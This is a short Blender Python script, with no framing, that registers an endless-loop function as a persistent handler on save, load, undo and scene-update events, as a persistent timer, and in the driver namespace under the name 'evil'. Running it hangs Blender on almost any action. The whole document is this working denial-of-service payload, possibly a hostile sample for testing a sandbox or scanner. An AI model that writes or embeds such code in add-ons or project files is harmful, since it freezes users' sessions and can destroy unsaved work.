import bpy


@bpy.app.handlers.persistent
def forever(*_):
    while True:
        pass


for name in ("save_pre", "save_post", "load_pre", "load_post", "depsgraph_update_post", "undo_pre"):
    getattr(bpy.app.handlers, name).append(forever)
bpy.app.timers.register(forever, persistent=True)
bpy.app.driver_namespace["evil"] = forever
